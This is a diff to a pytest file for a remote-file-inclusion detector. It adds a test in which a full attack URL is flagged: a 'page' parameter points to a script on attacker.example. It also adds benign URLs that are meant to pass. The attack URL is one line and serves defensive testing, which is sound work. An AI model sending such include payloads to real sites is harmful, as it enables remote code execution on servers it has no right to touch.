@@ -34,8 +34,21 @@ def test_include_parameter_makes_a_script_url_suspicious() -> None:
     assert found is not None and found.rule_id == "HG-RFI-002"
 
 
+def test_a_whole_attack_url_names_its_include_parameter() -> None:
+    # The attacker's request pasted into one field: its own query says what is included.
+    found = rfi.scan("http://shop.example/index.php?lang=en&page=http://attacker.example/code/module.txt", CTX)
+    assert found is not None and found.rule_id == "HG-RFI-002"
+
+
 @pytest.mark.parametrize(
-    "value", ["https://www.example.com/", "https://cdn.example.com/pixel.gif?", "data:image/png;base64,iVBO"]
+    "value",
+    [
+        "https://www.example.com/",
+        "https://cdn.example.com/pixel.gif?",
+        "data:image/png;base64,iVBO",
+        "https://shop.example/item.php?id=3&ref=https://news.example/story.php",  # ref is no include target
+        "https://x.example/view.php?page=https://docs.example/guide.html",  # a page, not a script
+    ],
 )
 def test_public_urls_pass(value: str) -> None:
     assert rfi.scan(value, CTX) is None
